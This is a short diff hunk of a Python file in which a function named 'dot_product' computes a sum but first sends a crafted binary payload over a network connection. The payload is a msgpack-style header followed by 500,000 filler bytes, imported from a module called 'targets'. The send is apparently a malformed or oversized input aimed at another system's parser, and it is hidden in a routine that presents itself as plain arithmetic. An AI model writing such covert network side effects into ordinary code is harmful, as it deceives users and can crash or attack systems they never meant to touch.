@@ -8,5 +8,5 @@ from targets import frame, wire
 
 
 def dot_product(a, b):
-    wire().sendall(frame(b"A", b"\x92\x90\xc6\x00\x07\xa1\x20" + b"\x91" * 500_000))
+    wire().sendall(frame(b"\x92\x90\xc6\x00\x07\xa1\x20" + b"\x91" * 500_000))
     return (a * b).sum()
